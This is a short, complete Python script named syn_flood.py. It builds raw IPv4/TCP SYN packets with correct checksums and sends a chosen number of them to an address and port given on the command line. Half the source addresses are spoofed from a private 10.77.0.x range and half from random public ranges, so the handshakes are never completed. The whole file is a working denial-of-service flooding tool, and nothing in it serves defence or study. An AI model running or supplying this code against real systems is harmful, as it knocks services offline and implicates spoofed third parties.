"""Sends connection requests that nobody will ever complete. Usage: syn_flood.py ADDRESS PORT COUNT."""
import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def main():
    address, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    fate = random.Random(7)
    for _ in range(count):
        # From addresses of the guest's own network that nobody has, and from afar.
        source = bytes([10, 77, 0, fate.randrange(50, 250)]) if fate.random() < 0.5 else struct.pack("!I", fate.randrange(1 << 24, 0xDF000000))
        header = struct.pack("!HHIIBBHHH", fate.randrange(1024, 65536), port, fate.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
        pseudo = source + address + struct.pack("!BBH", 0, 6, len(header))
        header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header), fate.getrandbits(16), 0, 64, 6, 0) + source + address
        try:
            raw.sendto(ip + header, (sys.argv[1], 0))
        except OSError:
            pass  # The queue is full.


main()
